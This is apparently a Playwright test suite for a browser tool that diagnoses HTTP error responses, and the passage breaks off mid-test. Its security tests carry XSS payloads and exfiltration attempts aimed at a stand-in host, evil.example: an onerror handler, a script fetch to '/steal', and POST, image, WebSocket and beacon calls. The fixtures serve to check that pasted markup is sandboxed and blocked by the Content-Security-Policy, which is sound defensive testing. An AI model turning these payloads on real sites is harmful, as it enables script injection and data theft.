// The page in real headless Chromium (Debian's), driven by playwright-core.
//
// Every request the browser makes goes through a counting proxy started here (Chromium is launched
// with --proxy-server and without the loopback bypass), so "no request left 127.0.0.1" is checked
// on the wire for the page, its worker, its service worker and the sandboxed preview alike.
// Screenshots (light and dark, wide and narrow) are kept in tests/page/artifacts/ (gitignored).
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { readFileSync, readdirSync, mkdirSync, existsSync } from "node:fs";
import { createServer } from "node:net";
import http from "node:http";
import { inflateRawSync } from "node:zlib";
import { fileURLToPath } from "node:url";
import path from "node:path";
import { chromium } from "playwright-core";

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), "../..");
const www = path.join(root, "www");
const artifacts = path.join(root, "tests/page/artifacts");
const fixture = (id) => readFileSync(path.join(root, "tests/fixtures", `${id}.http`), "utf8");
const label = (id) => JSON.parse(readFileSync(path.join(root, "tests/fixtures", `${id}.json`), "utf8"));

const WIDE = { width: 1280, height: 900 };
const NARROW = { width: 390, height: 844 };

let server, browser, base, proxy;
let serverLog = "";
const wire = { total: 0, local: 0, outside: [] }; // what the proxy saw
const seen = { outside: [] }; // what playwright saw (pages, workers)

function freePort() {
  return new Promise((resolve) => {
    const s = createServer();
    s.listen(0, "127.0.0.1", () => {
      const { port } = s.address();
      s.close(() => resolve(port));
    });
  });
}

async function waitForServer(url) {
  for (let i = 0; i < 100; i++) {
    try {
      if ((await fetch(url)).ok) return;
    } catch {}
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error(`server at ${url} did not start`);
}

function startServer(port) {
  const child = spawn("python3", ["-m", "http.server", String(port), "--bind", "127.0.0.1"], {
    cwd: www,
    stdio: ["ignore", "ignore", "pipe"],
  });
  child.stderr.on("data", (d) => (serverLog += d));
  return child;
}

/** A forward proxy that counts every request and lets only 127.0.0.1 through. */
function startProxy() {
  const p = http.createServer((req, res) => {
    wire.total++;
    let url;
    try {
      url = new URL(req.url);
    } catch {
      res.writeHead(400).end();
      return;
    }
    if (url.hostname !== "127.0.0.1") {
      wire.outside.push(req.url);
      res.writeHead(403).end("blocked by the page test");
      return;
    }
    wire.local++;
    const upstream = http.request(
      { host: "127.0.0.1", port: url.port, path: url.pathname + url.search, method: req.method, headers: req.headers },
      (r) => {
        res.writeHead(r.statusCode, r.headers);
        r.pipe(res);
      },
    );
    upstream.on("error", () => res.socket?.destroy()); // the server is gone: a network error, as offline
    req.pipe(upstream);
  });
  p.on("connect", (req, socket) => {
    wire.total++;
    wire.outside.push(`CONNECT ${req.url}`);
    socket.end("HTTP/1.1 403 Forbidden\r\n\r\n");
  });
  return new Promise((resolve) => p.listen(0, "127.0.0.1", () => resolve(p)));
}

before(async () => {
  const port = await freePort();
  base = `http://127.0.0.1:${port}/`;
  server = startServer(port);
  await waitForServer(base);
  proxy = await startProxy();
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium",
    args: [
      "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
      "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-first-run",
      // everything through the counting proxy, loopback included
      `--proxy-server=http://127.0.0.1:${proxy.address().port}`, "--proxy-bypass-list=<-loopback>",
      // silence Chromium's own services (autofill, optimisation hints, sign-in) so that the proxy
      // sees only what the page does
      "--disable-features=AutofillServerCommunication,OptimizationHints,OptimizationHintsFetching,OptimizationGuideModelDownloading,MediaRouter,DialMediaRouteProvider,Translate,NetworkTimeServiceQuerying",
      "--disable-domain-reliability", "--disable-client-side-phishing-detection", "--no-pings", "--disable-default-apps",
      "--gaia-url=http://127.0.0.1:9/", "--component-updater=url-source=http://127.0.0.1:9/",
    ],
  });
  mkdirSync(artifacts, { recursive: true });
});

after(async () => {
  await browser?.close();
  server?.kill();
  proxy?.close();
});

async function openPage({ viewport = WIDE, colorScheme = "light", url = base, clipboard = false, ready = true } = {}) {
  const context = await browser.newContext({ viewport, colorScheme });
  if (clipboard) await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: new URL(base).origin });
  const page = await context.newPage();
  const errors = [];
  page.on("pageerror", (e) => errors.push(e.message));
  context.on("request", (req) => {
    const u = req.url();
    if (!u.startsWith("data:") && !u.startsWith("blob:") && !u.startsWith("about:") && new URL(u).hostname !== "127.0.0.1") seen.outside.push(u);
  });
  await page.goto(url, { waitUntil: ready ? "load" : "commit" });
  // Not ready: the page's handlers are in place (the gallery is built just before the wasm
  // module starts loading), the module may not be.
  await page.waitForSelector(ready ? "body[data-ready=true]" : "button[data-example]");
  const close = () => context.close();
  return { page, errors, context, close };
}

/** Waits for the report of `text` (rendered after the debounce) and returns it. */
async function waitReport(page) {
  await page.waitForFunction(() => document.body.dataset.state === "report" && document.querySelector("#report").textContent.length > 0);
  return JSON.parse(await page.textContent("#report"));
}

async function paste(page, text) {
  await page.fill("#paste", text);
  return waitReport(page);
}

/** Loads `text` exactly (CRLF kept) the way a dropped file is read. A HAR file's Report indexes
 * the rebuilt text of its first failing entry, so its length is not the file's. */
async function drop(page, text, name = "response.http") {
  await page.evaluate(([content, fileName]) => {
    const dt = new DataTransfer();
    dt.items.add(new File([content], fileName, { type: "text/plain" }));
    for (const type of ["dragenter", "dragover", "drop"]) {
      document.querySelector("#paste").dispatchEvent(new DragEvent(type, { dataTransfer: dt, bubbles: true, cancelable: true }));
    }
  }, [text, name]);
  await page.waitForFunction(([len, har]) => {
    const r = document.querySelector("#report").textContent;
    if (document.body.dataset.state !== "report" || !r) return false;
    const report = JSON.parse(r);
    return har ? report.format === "har" : report.input_length === len && report.format !== "har";
  }, [Buffer.byteLength(text), name.endsWith(".har")]);
  return JSON.parse(await page.textContent("#report"));
}

async function example(page, id) {
  await page.click(`button[data-example="${id}"]`);
  await page.waitForFunction((len) => {
    const r = document.querySelector("#report").textContent;
    return document.body.dataset.state === "report" && r && JSON.parse(r).input_length === len;
  }, Buffer.byteLength(fixture(id)));
  return JSON.parse(await page.textContent("#report"));
}

async function shot(page, name, fullPage = true) {
  await page.evaluate(() => document.querySelector("#toast").classList.remove("show")); // a transient message
  await page.waitForTimeout(200);
  await page.screenshot({ path: path.join(artifacts, `${name}.png`), fullPage });
}

const hopNames = (page) => page.$$eval(".hops-svg g.hop", (gs) => gs.map((g) => g.dataset.hop));

// ------------------------------------------------------------------------------------------------

test("an nginx 502 gets its verdict, hop picture and highlighted evidence", async () => {
  const { page, errors, close } = await openPage();
  const report = await paste(page, fixture("nginx-502-default"));
  assert.equal(report.status.code, 502);
  assert.equal(report.origin.generator, "nginx");
  assert.match(await page.textContent("#status-line"), /HTTP\/1\.1 502 Bad Gateway/);
  assert.match(await page.textContent("#generator"), /Generated by nginx \(proxy\) — not your app/);
  assert.match(await page.textContent("#confidence"), /\d+% confidence/);
  assert.equal(await page.textContent("#summary"), report.explanation.summary);
  // the hop picture: Client → nginx (generated it) ✕ Your app
  assert.deepEqual(await hopNames(page), ["client", "nginx", "app"]);
  assert.equal(await page.getAttribute(".hops-svg g.hop[data-generated]", "data-hop"), "nginx");
  assert.equal(await page.locator(".hops-svg g.link[data-failed]").count(), 1);
  assert.match(await page.textContent("#hops-caption"), /nginx got no valid answer from upstream/);
  assert.match(await page.getAttribute(".hops-svg", "aria-label"), /Client → nginx/);
  // evidence: one item per matched signal, its bytes highlighted
  const marks = await page.$$eval("#evidence .ev-item", (items) => items.map((item) => {
    const i = item.dataset.group;
    return [...document.querySelectorAll("#raw mark[data-ev]")].filter((m) => m.dataset.ev.split(" ").includes(i)).map((m) => m.textContent).join("");
  }));
  assert.ok(marks.includes("<hr><center>nginx</center>"), marks.join("|"));
  assert.ok(marks.includes("Server: nginx"), marks.join("|"));
  // hovering an evidence item lights up its bytes
  await page.hover("#evidence .ev-item >> nth=0");
  assert.ok((await page.locator("#raw mark.hot").count()) >= 1);
  // what to do, headers explained, body message
  assert.ok((await page.locator("#todo .checks li").count()) >= 1);
  assert.match(await page.textContent("#headers"), /The software that wrote the response headers/);
  assert.match(await page.textContent("[data-testid=body-message]"), /502 Bad Gateway/);
  await shot(page, "nginx-502-wide-light");
  assert.deepEqual(errors, []);
  await close();
});

test("an app's JSON error is the app's, with its message and Retry-After", async () => {
  const { page, errors, close } = await openPage();
  const report = await drop(page, fixture("fastapi-503-retry-after"));
  assert.equal(report.origin.kind, "app");
  assert.equal(report.body.kind, "json");
  assert.match(await page.textContent("#generator"), /Generated by the application/);
  assert.equal(await page.getAttribute(".hops-svg g.hop[data-generated]", "data-hop"), "app");
  assert.match(await page.textContent("[data-testid=body-message]"), /Service Unavailable/);
  assert.match(await page.textContent("#body pre"), /\{\n {2}"detail": "Service Unavailable"\n\}/);
  assert.match(await page.textContent("#todo .retry"), /Retry-After: wait 30 s/);
  assert.deepEqual(errors, []);
  await close();
});

test("the example gallery: real fixtures, one click each, light and dark", async () => {
  const ids = readdirSync(path.join(www, "examples")).filter((f) => f.endsWith(".http")).map((f) => f.slice(0, -5));
  assert.ok(ids.length >= 5);
  for (const id of ids) {
    assert.equal(readFileSync(path.join(www, "examples", `${id}.http`), "utf8"), fixture(id), `www/examples/${id}.http differs from tests/fixtures`);
  }
  const sw = readFileSync(path.join(www, "sw.js"), "utf8");
  for (const id of ids) assert.ok(sw.includes(`examples/${id}.http`), `sw.js does not cache ${id}`);

  const { page, errors, close } = await openPage({ colorScheme: "dark" });
  assert.equal(await page.locator("#examples button").count(), ids.length);
  for (const id of ids) {
    const report = await example(page, id);
    const want = label(id);
    assert.equal(report.status.code, want.status, id);
    assert.equal(report.origin.kind, want.origin, id);
    if (want.origin === "proxy") assert.equal(report.origin.generator, want.generator, id);
    // the page shows the report it got, CRLFs and all
    assert.equal(report.input_length, Buffer.byteLength(fixture(id)), id);
    assert.ok(!report.diagnostics.some((d) => d.code === "body-shorter-than-declared"), id);
    if (id === "heroku-503-h12-behind-cloudflare") await shot(page, "heroku-503-wide-dark");
  }
  assert.deepEqual(errors, []);
  await close();
});

test("the hop picture shows each relay and where it failed", async () => {
  const { page, close } = await openPage();
  await example(page, "heroku-503-h12-behind-cloudflare");
  assert.deepEqual(await hopNames(page), ["client", "cloudflare", "heroku", "app"]);
  assert.equal(await page.getAttribute(".hops-svg g.hop[data-generated]", "data-hop"), "heroku");
  assert.match(await page.textContent("#generator"), /Generated by Heroku \(platform\) — not your app/);
  assert.match(await page.textContent("#hops-caption"), /^Heroku /);

  await example(page, "cloudflare-522-head-only");
  assert.deepEqual(await hopNames(page), ["client", "cloudflare", "app"]);
  assert.match(await page.textContent("#hops-caption"), /Cloudflare could not reach your origin/);
  assert.equal(await page.locator(".hops-svg g.link[data-failed]").count(), 1);
  // ids to quote, each with a copy button
  assert.match(await page.textContent("#todo .ids"), /cf-ray/);

  await example(page, "spring-boot-500-whitelabel");
  assert.deepEqual(await hopNames(page), ["client", "app"]);
  assert.equal(await page.getAttribute(".hops-svg g.hop[data-generated]", "data-hop"), "app");
  await page.click("#body button[aria-pressed]");
  await page.waitForSelector("iframe.preview");
  await page.waitForTimeout(200);
  await shot(page, "spring-500-preview-wide-light");
  await close();
});

test("narrow screens: one column, vertical hops, light and dark", async () => {
  for (const colorScheme of ["light", "dark"]) {
    const { page, errors, close } = await openPage({ viewport: NARROW, colorScheme });
    await example(page, colorScheme === "light" ? "cloudflare-522-head-only" : "nginx-502-default");
    assert.equal(await page.getAttribute(".hops-svg", "data-layout"), "vertical");
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    assert.ok(overflow <= 0, `the page is ${overflow}px wider than the screen`);
    await shot(page, `narrow-${colorScheme}`);
    await shot(page, `narrow-${colorScheme}-viewport`, false);
    assert.deepEqual(errors, []);
    await close();
  }
});

test("the theme follows the system, and the toggle's choice persists", async () => {
  const { page, close } = await openPage({ colorScheme: "dark" });
  const bg = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
  const dark = await bg();
  assert.equal(await page.evaluate(() => document.documentElement.dataset.theme ?? null), null);
  await page.click("#theme");
  assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), "light");
  assert.notEqual(await bg(), dark);
  await page.click("#theme");
  assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), "dark");
  await page.reload();
  await page.waitForSelector("body[data-ready=true]");
  assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), "dark");
  assert.match(await page.getAttribute("#theme", "aria-label"), /Colour theme: dark/);
  await page.click("#theme");
  assert.equal(await page.evaluate(() => document.documentElement.dataset.theme ?? null), null);
  await close();
});

test("byte offsets: highlights land on the right characters in a non-ASCII paste", async () => {
  const { page, close } = await openPage();
  const text = fixture("nginx-502-default")
    .replace("Server: nginx", "X-Note: héllo wörld — 日本語 😀\r\nServer: nginx")
    .replace("<body>", "<body>\r\n<p>Ünïcödé ✓ 🚀</p>");
  const report = await drop(page, text);
  const bytes = Buffer.from(text, "utf8");
  const marks = await page.$$eval("#raw mark[data-ev]", (ms) => ms.map((m) => ({ ev: m.dataset.ev.split(" ").map(Number), text: m.textContent })));
  const groups = await page.$$eval("#evidence .ev-item", (bs) => bs.map((b) => b.querySelector(".ev-bytes").textContent));
  assert.ok(groups.length >= 2);
  for (const [i, g] of groups.entries()) {
    const [, a, b] = /bytes (\d+)–(\d+)/.exec(g).map(Number);
    const want = bytes.subarray(a, b).toString("utf8");
    const got = marks.filter((m) => m.ev.includes(i)).map((m) => m.text).join("");
    assert.equal(got, want, `evidence ${i}`);
  }
  assert.ok(report.origin.evidence.some((e) => bytes.subarray(e.span.start, e.span.end).toString() === "<hr><center>nginx</center>"));
  await close();
});

test("a real paste keeps its CRLFs, and so does typing afterwards", async () => {
  const { page, close } = await openPage({ clipboard: true });
  const text = fixture("nginx-502-default");
  await page.evaluate((t) => navigator.clipboard.writeText(t), text);
  await page.focus("#paste");
  await page.keyboard.press("Control+V");
  let report = await waitReport(page);
  assert.equal(report.input_length, Buffer.byteLength(text));
  assert.ok(!report.diagnostics.some((d) => d.code === "body-shorter-than-declared"), JSON.stringify(report.diagnostics));
  // type a header at the end of the status line: the rest of the paste keeps its CRLFs
  await page.evaluate(() => {
    const area = document.querySelector("#paste");
    const end = area.value.indexOf("\n");
    area.setSelectionRange(end, end);
  });
  await page.keyboard.press("Enter");
  await page.keyboard.type("X-Typed: yes");
  await page.waitForFunction(() => document.querySelector("#report").textContent.includes("X-Typed"));
  report = await waitReport(page);
  assert.equal(report.input_length, Buffer.byteLength(text) + "X-Typed: yes\r\n".length);
  assert.ok(report.headers.some((h) => h.name === "X-Typed"));
  assert.ok(!report.diagnostics.some((d) => d.code === "body-shorter-than-declared" || d.code === "bare-lf"), JSON.stringify(report.diagnostics));
  await close();
});

const XSS_HTML = [
  "HTTP/1.1 500 Internal Server Error",
  "Content-Type: text/html",
  "X-Evil: <img src=x onerror=\"window.__xss=11\">",
  "",
  "<!doctype html><html><head><title><img src=x onerror=\"window.__xss=12\"></title>",
  "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/refresh\">",
  "<link rel=\"stylesheet\" href=\"https://evil.example/style.css\">",
  "<style>@import url(https://evil.example/import.css); body{background:url(https://evil.example/bg.png)}</style>",
  "<base href=\"https://evil.example/\">",
  "</head><body onload=\"window.__xss=13\">",
  "<h1>Oops <img src=x onerror=\"window.__xss=1;document.body.dataset.ran=1\"></h1>",
  "<script>window.__xss=2;document.body.dataset.ran=1;fetch('https://evil.example/steal')</script>",
  "<svg onload=\"window.__xss=3\"></svg><iframe src=\"https://evil.example/frame\"></iframe>",
  "<img src=\"https://evil.example/pixel.png\"><img src=\"/local-pixel.png\">",
  "<a id=\"link\" href=\"https://evil.example/click\">click</a>",
  "<form action=\"https://evil.example/post\"><button id=\"submit\">go</button></form>",
  "</body></html>",
].join("\r\n");

const XSS_JSON = 'HTTP/1.1 502 Bad Gateway\r\nContent-Type: application/json\r\n\r\n{"message":"<img src=x onerror=\\"window.__xss=21\\">","detail":"<script>window.__xss=22</script>"}';

test("pasted markup never runs: not in the report, not in the preview, no request made", async () => {
  const { page, errors, close } = await openPage();
  await page.evaluate(() => { window.__xss = 0; });
  const before = { wire: wire.outside.length, log: serverLog.length };

  await paste(page, XSS_JSON);
  assert.match(await page.textContent("[data-testid=body-message]"), /<img src=x onerror=/);
  await drop(page, XSS_HTML);
  await page.waitForTimeout(300);
  assert.equal(await page.evaluate(() => window.__xss), 0);
  // only the page's own elements: nothing from the paste became an element
  assert.equal(await page.locator("body img, body script:not([src]), body svg[onload], body iframe, body link[href^=http]").count(), 0);
  assert.match(await page.textContent("#raw"), /<script>window.__xss=2/);

  // the preview: sandbox="" (no scripts, no forms, no navigation of the page), a CSP first in srcdoc
  await page.click("#body button[aria-pressed]");
  const frame = page.locator("iframe.preview");
  await frame.waitFor();
  assert.equal(await frame.getAttribute("sandbox"), "");
  const srcdoc = await frame.getAttribute("srcdoc");
  assert.ok(srcdoc.startsWith("<!-- resplain preview"), srcdoc.slice(0, 80));
  assert.match(srcdoc, /^[^<]*<!--[^>]*--><meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:">/);
  await page.waitForFunction(() => document.querySelector("iframe.preview").contentDocument === null); // opaque origin
  let inner;
  for (let i = 0; i < 50 && !inner; i++) {
    inner = page.frames().find((f) => f.url() === "about:srcdoc");
    if (!inner) await page.waitForTimeout(50);
  }
  assert.ok(inner, "the preview frame loaded");
  await inner.waitForSelector("#link");
  assert.match(await inner.textContent("h1"), /Oops/);
  assert.equal(await inner.locator("script, iframe, link, base, meta[http-equiv=refresh], [onerror], [onload], [href^=http], [src^=http]").count(), 0);
  await page.waitForTimeout(500);
  assert.equal(await inner.evaluate(() => document.body.dataset.ran ?? null).catch(() => null), null);
  // clicking inside the preview navigates nowhere
  await inner.click("#link", { timeout: 2000 }).catch(() => {});
  await inner.click("#submit", { timeout: 2000 }).catch(() => {});
  await page.waitForTimeout(500);
  assert.equal(await page.evaluate(() => window.__xss), 0);
  await shot(page, "xss-preview");

  // nothing left the page and nothing was even asked of the local server
  assert.deepEqual(wire.outside.slice(before.wire), []);
  const newLog = serverLog.slice(before.log);
  assert.doesNotMatch(newLog, /GET \/(x|local-pixel\.png|refresh|click|post)\b/, newLog);
  assert.deepEqual(errors, []);
  await close();
});

test("the Content-Security-Policy forbids uploads and third-party resources", async () => {
  const { page, close } = await openPage();
  const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', "content");
  const directives = Object.fromEntries(csp.split(";").map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
  assert.deepEqual(directives["default-src"], ["'none'"]);
  assert.deepEqual(directives["script-src"], ["'self'", "'wasm-unsafe-eval'"]);
  assert.ok(["'none'", "'self'"].includes(directives["connect-src"].join(" ")), csp);
  assert.deepEqual(directives["form-action"], ["'none'"]);
  assert.deepEqual(directives["base-uri"], ["'none'"]);
  assert.doesNotMatch(csp, /https?:|\*|wss?:/, "no other origin is allowed anywhere");

  // the page's own markup refers to nothing elsewhere
  const refs = await page.$$eval("[src], [href]", (els) => els.map((e) => e.getAttribute("src") ?? e.getAttribute("href")));
  for (const ref of refs) assert.ok(!/^(https?:)?\/\//.test(ref), ref);
  const resources = await page.evaluate(() => performance.getEntriesByType("resource").map((r) => r.name));
  for (const r of resources) assert.equal(new URL(r).hostname, "127.0.0.1", r);

  // and an attempt to send something elsewhere is refused by the browser before any request
  const before = wire.outside.length;
  const attempted = seen.outside.length;
  const result = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
    const attempts = [
      fetch("https://evil.example/upload", { method: "POST", body: "secret" }).then(() => "sent", () => "blocked"),
      fetch("http://127.0.0.2:9/upload").then(() => "sent", () => "blocked"),
      new Promise((r) => { const i = new Image(); i.onload = () => r("sent"); i.onerror = () => r("blocked"); i.src = "https://evil.example/p.png"; }),
      new Promise((r) => { try { const ws = new WebSocket("wss://evil.example/"); ws.onerror = () => r("blocked"); ws.onopen = () => r("sent"); } catch { r("blocked"); } }),
    ];
    navigator.sendBeacon?.("https://evil.example/beacon", "secret");
    const outcome = await Promise.all(attempts);
    await new Promise((r) => setTimeout(r, 200));
    return { outcome, violations };
  });
  assert.deepEqual(result.outcome, ["blocked", "blocked", "blocked", "blocked"]);
  assert.ok(result.violations.includes("connect-src") && result.violations.includes("img-src"), result.violations.join());
  assert.deepEqual(wire.outside.slice(before), []);
  // playwright reports the blocked attempts as requests; they are this test's own, refused by CSP
  // before reaching the network (the proxy saw none), so they are not counted against the page
  assert.ok(seen.outside.slice(attempted).every((u) => u.includes("evil.example")));
  seen.outside.splice(attempted);
  await close();
});

test("secrets are masked in the report's raw view until asked for", async () => {
  const { page, errors, close } = await openPage();
  const token = "sk_live_rawview_secret_123";
  await drop(page, `HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Bearer\r\nSet-Cookie: sid=${token}; Path=/\r\nContent-Length: 0\r\n\r\n`);
  assert.ok(!(await page.textContent("#raw")).includes(token), "the secret is shown in the raw view");
  assert.ok(!(await page.textContent("main")).includes(token), "the secret is shown somewhere on the page");
  await page.click(".secrets-toggle");
  assert.ok((await page.textContent("#raw")).includes(token), "Show secrets reveals it");
  await page.click(".secrets-toggle");
  assert.ok(!(await page.textContent("#raw")).includes(token));
  assert.deepEqual(errors, []);
  await close();
});

test("share links round-trip through the URL fragment, with secrets masked", async () => {
  const { page, errors, close } = await openPage({ clipboard: true });
  const secret = {
    auth: "Bearer eyJhbGciOiJIUzI1NiJ9.c2VjcmV0.signature",
    cookie: "session=s3cr3t-cookie; theme=dark",
    setCookie: "AWSALB=alb-secret-value; Expires=Sat, 01 Jan 2028 00:00:00 GMT; Path=/",
    proxyAuth: "Basic dXNlcjpwYXNzd29yZA==",
    apiKey: "sk_live_abcdef123456",
    password: "hunter2",
  };
  const text = fixture("nginx-502-default").replace(
    "Server: nginx\r\n",
    `Server: nginx\r\nAuthorization: ${secret.auth}\r\nCookie: ${secret.cookie}\r\nSet-Cookie: ${secret.setCookie}\r\n` +
      `Proxy-Authorization: ${secret.proxyAuth}\r\nLocation: https://admin:${secret.password}@api.example/v1?api_key=${secret.apiKey}&page=2\r\n`,
  );
  const original = await drop(page, text);
  await page.click("#share");
  await page.waitForSelector("#share-box:not([hidden])");
  const link = await page.inputValue("#share-url");
  assert.match(await page.textContent("#share-note"), /secrets? masked/);
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), link);

  // the link: this page, the response only in the fragment, compressed, no secret in it
  const url = new URL(link);
  assert.equal(url.origin + url.pathname, base);
  assert.equal(url.search, "");
  const payload = new URLSearchParams(url.hash.slice(1)).get("r");
  assert.match(payload, /^[A-Za-z0-9_-]+$/);
  const shared = inflateRawSync(Buffer.from(payload, "base64url")).toString("utf8");
  const secretParts = ["eyJhbGciOiJIUzI1NiJ9.c2VjcmV0.signature", "s3cr3t-cookie", "alb-secret-value", "dXNlcjpwYXNzd29yZA==", "sk_live_abcdef123456", "hunter2"];
  for (const part of secretParts) {
    assert.ok(!shared.includes(part), `${part} leaked into the share link`);
    assert.ok(!link.includes(part), `${part} leaked into the share link`);
  }
  assert.equal(Buffer.byteLength(shared), Buffer.byteLength(text), "masking keeps the byte length");
  assert.match(shared, /^Authorization: Bearer \*+\r$/m);
  assert.match(shared, /^Cookie: session=\*+; theme=\*+\r$/m);
  assert.match(shared, /^Set-Cookie: AWSALB=\*+; Expires=Sat, 01 Jan 2028/m);
  assert.match(shared, /^Proxy-Authorization: Basic \*+\r$/m);
  assert.match(shared, /admin:\*+@api\.example\/v1\?api_key=\*+&page=2/);
  assert.ok(shared.includes("<hr><center>nginx</center>"));

  // open it: same verdict, the masked response in the paste area, a banner saying so
  const other = await openPage({ url: link });
  const report = await waitReport(other.page);
  assert.equal(report.origin.generator, original.origin.generator);
  assert.equal(report.status.code, 502);
  assert.equal(await other.page.inputValue("#paste"), shared.replace(/\r\n?/g, "\n"));
  assert.equal(report.input_length, Buffer.byteLength(text));
  assert.ok(await other.page.isVisible("#shared-banner"));
  // the fragment never reached the server
  assert.doesNotMatch(serverLog, /#r=|r=[A-Za-z0-9_-]{20}/);
  assert.deepEqual(other.errors, []);
  await other.close();

  // Copy report as Markdown: the verdict, the path, what to do, the head with secrets masked
  await page.click("#copy-md");
  const md = await page.evaluate(() => navigator.clipboard.readText());
  assert.match(md, /^### HTTP\/1\.1 502 Bad Gateway — Generated by nginx \(proxy\) — not your app/);
  assert.match(md, /\*\*Path:\*\* Client → nginx/);
  assert.match(md, /\*\*Check first\*\*/);
  assert.match(md, /```http\nHTTP\/1\.1 502 Bad Gateway\nServer: nginx\nAuthorization: Bearer \*+\n/);
  for (const part of secretParts) assert.ok(!md.includes(part), `${part} leaked into the Markdown`);
  assert.deepEqual(errors, []);
  await close();
});

test("keyboard only: reach everything, open an example, read why evidence counts", async () => {
  const { page, close } = await openPage();
  const reached = [];
  for (let i = 0; i < 14; i++) {
    await page.keyboard.press("Tab");
    reached.push(await page.evaluate(() => {
      const el = document.activeElement;
      return el.id || el.dataset.example || el.className || el.tagName;
    }));
  }
  assert.ok(reached.includes("paste"), reached.join());
  assert.ok(reached.includes("theme"), reached.join());
  assert.ok(reached.includes("nginx-502-default"), reached.join());
  // the skip link comes first and leads to the paste area
  assert.equal(reached[0], "skip");
  await page.focus('button[data-example="nginx-502-default"]');
  await page.keyboard.press("Enter");
  await waitReport(page);
  // evidence items and highlights are focusable; Enter opens "why", Escape closes it and returns focus
  await page.focus("#raw mark[data-first]");
  await page.keyboard.press("Enter");
  await page.waitForSelector("#why:not([hidden])");
  assert.match(await page.textContent("#why"), /generated this response|was on the path/);
  assert.match(await page.textContent("#why"), /Source:/);
  await shot(page, "why-popover", false);
  await page.keyboard.press("Escape");
  assert.ok(await page.isHidden("#why"));
  assert.equal(await page.evaluate(() => document.activeElement.tagName), "MARK");
  // every control has an accessible name
  const unnamed = await page.$$eval("button, textarea, input:not([hidden]), [role=button]", (els) =>
    els.filter((e) => !(e.getAttribute("aria-label") || e.textContent.trim() || (e.id && document.querySelector(`label[for="${e.id}"]`)))).map((e) => e.outerHTML.slice(0, 80)));
  assert.deepEqual(unnamed, []);
  await close();
});

test("a 5 MB paste is read off the main thread without freezing the page", async () => {
  const { page, errors, close } = await openPage({ clipboard: true });
  assert.equal(await page.evaluate(() => document.body.dataset.engine), "worker");
  const body = "<html><body>" + "<p>lorem ipsum dolor sit amet, é ü 日本</p>\r\n".repeat(120000) + "<hr><center>nginx</center></body></html>";
  const text = "HTTP/1.1 502 Bad Gateway\r\nServer: nginx\r\nContent-Type: text/html\r\n\r\n" + body;
  await page.evaluate((t) => navigator.clipboard.writeText(t), text);
  await page.focus("#paste");
  await page.evaluate(() => {
    window.__frames = { longest: 0, last: performance.now(), running: true };
    const tick = () => {
      const f = window.__frames;
      const now = performance.now();
      f.longest = Math.max(f.longest, now - f.last);
      f.last = now;
      if (f.running) requestAnimationFrame(tick);
    };
    requestAnimationFrame(tick);
    window.__tasks = [];
    new PerformanceObserver((list) => window.__tasks.push(...list.getEntries().map((e) => e.duration))).observe({ type: "longtask" });
    window.__started = performance.now();
  });
  await page.keyboard.press("Control+V");
  const result = await page.evaluate(async () => {
    await new Promise((resolve) => {
      const check = () => (document.body.dataset.state === "report" && document.querySelector("#report").textContent.includes('"input_length"')
        ? resolve() : setTimeout(check, 20));
      check();
    });
    const elapsed = performance.now() - window.__started;
    await new Promise((r) => setTimeout(r, 200));
    window.__frames.running = false;
    return { elapsed, longest: window.__frames.longest, task: Math.max(0, ...window.__tasks), report: JSON.parse(document.querySelector("#report").textContent) };
  });
  result.length = text.length;
  assert.equal(result.report.input_length, Buffer.byteLength(text), "the whole paste was read, CRLFs included");
  assert.ok(result.length > 5_000_000);
  assert.equal(result.report.origin.generator, "nginx");
  assert.ok(result.elapsed < 10000, `took ${result.elapsed} ms`);
  // before the editor showed only the head of a big paste, Chromium spent ~6 s laying it out
  assert.ok(result.task < 500, `a task ran for ${Math.round(result.task)} ms`);
  assert.ok(result.longest < 1000, `no frame for ${Math.round(result.longest)} ms`);
  assert.ok(await page.isVisible("#raw-more"), "a huge paste is shown in part, with a button for the rest");
  assert.equal(await page.getAttribute("#paste", "readonly"), "", "the editor shows the head of a big paste, read-only");
  console.log(`# 5 MB paste: report in ${Math.round(result.elapsed)} ms, longest task ${Math.round(result.task)} ms, longest frame gap ${Math.round(result.longest)} ms`);
  assert.deepEqual(errors, []);
  await close();
});

test("works offline after the first visit", async () => {
  const port = await freePort();
  const url = `http://127.0.0.1:${port}/`;
  const own = startServer(port);
  await waitForServer(url);
  const { page, errors, close } = await openPage({ url });
  await page.evaluate(async () => { await navigator.serviceWorker.ready; });
  await page.reload();
  await page.waitForSelector("body[data-ready=true]");
  assert.ok(await page.evaluate(() => navigator.serviceWorker.controller !== null), "the service worker controls the page");
  own.kill();
  await new Promise((r) => own.once("exit", r));
  await assert.rejects(fetch(url), "the server is gone");
  await page.reload();
  await page.waitForSelector("body[data-ready=true]");
  await example(page, "aws-alb-503-no-targets");
  assert.match(await page.textContent("#generator"), /AWS Application Load Balancer/);
  assert.deepEqual(errors, []);
  await close();
});

test("HAR and curl -v pastes are read when the engine knows them", { skip: !existsSync(path.join(root, "tests/inputs")) }, async () => {
  const dir = path.join(root, "tests/inputs");
  const files = readdirSync(dir).filter((f) => /\.(har|txt|http)$/.test(f));
  const { page, errors, close } = await openPage();
  for (const f of files) {
    const report = await drop(page, readFileSync(path.join(dir, f), "utf8"), f);
    assert.ok(await page.isVisible("#verdict"), f);
    if (Array.isArray(report.entries) && report.entries.length) {
      assert.ok(await page.isVisible("#entries-card"), f);
